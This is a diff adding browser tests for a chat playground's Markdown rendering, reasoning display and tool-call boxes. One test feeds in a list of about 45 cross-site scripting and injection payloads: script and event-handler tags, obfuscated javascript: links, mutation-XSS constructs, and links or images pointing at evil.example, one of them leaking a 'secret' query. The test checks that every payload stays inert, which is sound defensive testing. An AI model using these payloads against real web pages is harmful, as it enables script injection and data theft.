@@ -294,3 +294,153 @@ test("a full store says so, and the conversation goes on", async () => {
   await reply(page, "Three", "Four");
   assert.equal((await lastRequest(page)).messages.length, 3);
 });
+
+const MARKDOWN = `# Top
+### Skips a level
+
+Some *soft*, **strong** and \`inline\` text, [a link](https://example.org/a "title") and https://example.org/b.
+
+1. one
+2. two
+   - inner
+
+| name | size |
+|:--|--:|
+| a | 1 |
+
+> quoted
+
+\`\`\`python
+def f(x):
+    return "é <b>" # note
+\`\`\`
+`;
+
+test("Markdown has tables, lists, links and coloured code that can be copied; it is the same after a reload", async () => {
+  const page = await visit();
+  await tab.context.grantPermissions(["clipboard-read", "clipboard-write"]);
+  await ask(page, "Show me");
+  for (let at = 0; at < MARKDOWN.length; at += 29) await say(page, MARKDOWN.slice(at, at + 29));
+  await end(page);
+  const prose = page.locator("#pane-chat .answer > .prose");
+  await page.waitForSelector(".prose .hljs-keyword");
+  const look = () =>
+    prose.evaluate((element) => ({
+      heads: [...element.querySelectorAll("h3, h4, h5, h6")].map((head) => [head.localName, head.textContent]),
+      links: [...element.querySelectorAll("a")].map((link) => [link.href, link.rel, link.target]),
+      lists: element.querySelectorAll("ol > li").length + element.querySelectorAll("ol li ul > li").length,
+      cells: [...element.querySelectorAll("td")].map((cell) => [cell.textContent, getComputedStyle(cell).textAlign]),
+      code: element.querySelector("pre").textContent,
+      font: getComputedStyle(element.querySelector("pre code")).fontFamily,
+      colours: new Set([...element.querySelectorAll("pre span")].map((span) => getComputedStyle(span).color)).size,
+      parts: [...element.querySelectorAll("strong, em, blockquote, p > code")].length,
+    }));
+  const found = await look();
+  const rel = "noopener noreferrer nofollow";
+  assert.deepEqual(found.heads, [["h3", "Top"], ["h4", "Skips a level"]]);
+  assert.deepEqual(found.links, [["https://example.org/a", rel, "_blank"], ["https://example.org/b", rel, "_blank"]]);
+  assert.deepEqual([found.lists, found.parts, found.cells], [3, 4, [["a", "left"], ["1", "right"]]]);
+  assert.equal(found.code, 'def f(x):\n    return "é <b>" # note');
+  assert.match(found.font, /mono/);
+  assert.ok(found.colours >= 3);
+  await page.click("text=Copy code");
+  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), found.code);
+  await reload(page);
+  await page.waitForSelector(".prose .hljs-keyword");
+  assert.deepEqual(await look(), found);
+});
+
+// What must stay text. Each tries to run `window.hacked = true`, to ask another place, or to leave the answer.
+const INJECTIONS = [
+  "<script>window.hacked = true</script>", "<img src=x onerror='window.hacked = true'>", "<svg onload=window.hacked=true>",
+  "<svg><script>window.hacked=true</script></svg>", "<iframe srcdoc='<script>parent.hacked=true</script>'></iframe>",
+  "[a](javascript:window.hacked=true)", "[a](JaVaScRiPt:window.hacked=true)", "[a](java&#115;cript:window.hacked=true)",
+  "[a](javascript&colon;window.hacked=true)", "[a](\u0001javascript:window.hacked=true)", "[a](data:text/html,<script>window.hacked=true</script>)",
+  "[a](vbscript:x)", "[a](file:///etc/passwd)", "[a](blob:x)", "[a](/metrics)", "[a](//evil.example/x)", "<javascript:window.hacked=true>",
+  "[a][r]\n\n[r]: javascript:window.hacked=true", "![a](https://evil.example/?secret)", "![a](data:image/svg+xml,<svg onload=window.hacked=true>)",
+  "![a](javascript:window.hacked=true)", '![a" onerror="window.hacked=true](x)', '[a](https://ok.example "\" onmouseover=\"window.hacked=true")',
+  "[<img src=x onerror=window.hacked=true>](https://ok.example)", "<a href='javascript:window.hacked=true'>a</a>", "<style>@import 'https://evil.example'</style>",
+  "<link rel=stylesheet href=https://evil.example>", "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href=https://evil.example>",
+  "<form action=https://evil.example><button>a</button></form>", "<object data=https://evil.example></object>", "<embed src=https://evil.example>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=true>", "<noscript><p title='</noscript><img src=x onerror=window.hacked=true>'>",
+  "<template><script>window.hacked=true</script></template>", "</div></div></main><h1>Out</h1>", "<details open ontoggle=window.hacked=true>",
+  "```html\n</code></pre><script>window.hacked=true</script>\n```", "```<img src=x onerror=window.hacked=true>\nx\n```", '```js" onload="window.hacked=true\nx\n```',
+  "`<img src=x onerror=window.hacked=true>`", "| <img src=x onerror=window.hacked=true> |\n|--|\n| <script>window.hacked=true</script> |",
+  "# <img src=x onerror=window.hacked=true>", "> <script>window.hacked=true</script>", "1. <svg/onload=window.hacked=true>", "&lt;script&gt;window.hacked=true&lt;/script&gt;",
+];
+
+test("nothing that an answer says runs, is loaded, or leads astray", async () => {
+  const page = await visit();
+  await reply(page, "<img src=x onerror='window.hacked = true'>", INJECTIONS.join("\n\n---\n\n"));
+  await reply(page, "Each", "by itself");
+  const tags = "p h3 h4 h5 h6 ul ol li blockquote strong em s table thead tbody tr th td hr br a span code pre div button".split(" ");
+  const wrong = await page.evaluate(async ([all, known]) => {
+    const { showMarkdown } = await import("/playground/markdown.js");
+    const place = document.querySelector("#pane-chat .answer > .prose");
+    const found = [];
+    const see = (what) => {
+      for (const element of place.querySelectorAll("*")) {
+        if (!known.includes(element.localName)) found.push([what, element.outerHTML]);
+        for (const { name, value } of element.attributes) {
+          const fine = name === "href" ? /^(https?|mailto):/.test(value) : /^(class|rel|target|tabindex|role|aria-label|type|start)$/.test(name);
+          if (!fine) found.push([what, name, value]);
+        }
+      }
+    };
+    if (place.textContent.length < 1000) found.push("the answer is not shown");
+    see("together");
+    for (const text of all) {
+      showMarkdown(place, text);
+      await new Promise((done) => setTimeout(done)); // what is coloured later, too
+      see(text);
+    }
+    await import("/playground/vendor/highlight.js");
+    await new Promise((done) => setTimeout(done, 50));
+    return { found, hacked: window.hacked, letters: place.textContent };
+  }, [INJECTIONS, tags]);
+  assert.deepEqual(wrong, { found: [], hacked: undefined, letters: "<script>window.hacked=true</script>" });
+  assert.equal(await page.locator("main").count(), 1);
+  assert.deepEqual(await page.locator("h1").allInnerTexts(), ["Octavo"]);
+});
+
+test("reasoning is folded, calls have boxes, and the token view is a toggle", async () => {
+  const page = await visit();
+  await ask(page, "Think");
+  await say(page, { reasoning_content: "Let me *see*" });
+  await page.waitForSelector(".reasoning:not([hidden])");
+  assert.ok(await page.locator(".reasoning .prose").isHidden());
+  await say(page, "It is ");
+  await page.evaluate(() => window.say({ content: "**it**" }, null, { content: [{ token: "**it**", logprob: -0.5, top_logprobs: [] }] }));
+  await end(page);
+  assert.equal(await page.textContent("#pane-chat .answer > .prose strong"), "it");
+  assert.ok(await page.locator("#pane-chat .tokens").isHidden());
+  await page.focus(".toggle");
+  await page.keyboard.press("Enter");
+  assert.equal(await page.getAttribute(".toggle", "aria-pressed"), "true");
+  assert.ok(await page.locator("#pane-chat .token").isVisible());
+  assert.ok(await page.locator("#pane-chat .answer > .prose").isHidden());
+  await page.click(".toggle");
+  await page.click(".reasoning summary");
+  assert.equal(await page.innerText(".reasoning .prose"), "Let me see");
+  await ask(page, "Look");
+  const { messages } = await lastRequest(page);
+  assert.deepEqual(messages[1], { role: "assistant", content: "It is **it**", reasoning_content: "Let me *see*" });
+  const call = (index, name, given) => ({ tool_calls: [{ index, id: `c${index}`, type: "function", function: { name, arguments: given } }] });
+  await say(page, call(0, "look", '{"at": '));
+  await say(page, { tool_calls: [{ index: 0, function: { arguments: "1}" } }] });
+  await say(page, call(1, "hear", "{}"));
+  await end(page, "tool_calls");
+  assert.deepEqual(await page.locator(".call pre").allInnerTexts(), ['{\n  "at": 1\n}', "{}"]);
+  await page.getByLabel("Result of look").fill("red");
+  await page.keyboard.press("Enter");
+  assert.equal(await page.evaluate(() => document.activeElement.labels[0].textContent), "Result of hear", "it is missing yet");
+  await page.keyboard.type("loud");
+  await page.keyboard.press("Enter");
+  await page.waitForFunction(() => window.asked.length === 3);
+  await say(page, "Done");
+  await end(page);
+  const sent = (await lastRequest(page)).messages.slice(-2);
+  assert.deepEqual(sent, [{ role: "tool", tool_call_id: "c0", content: "red" }, { role: "tool", tool_call_id: "c1", content: "loud" }]);
+  await reload(page);
+  assert.deepEqual(await page.locator(".call pre").allInnerTexts(), ['{\n  "at": 1\n}', "red", "{}", "loud"]);
+});
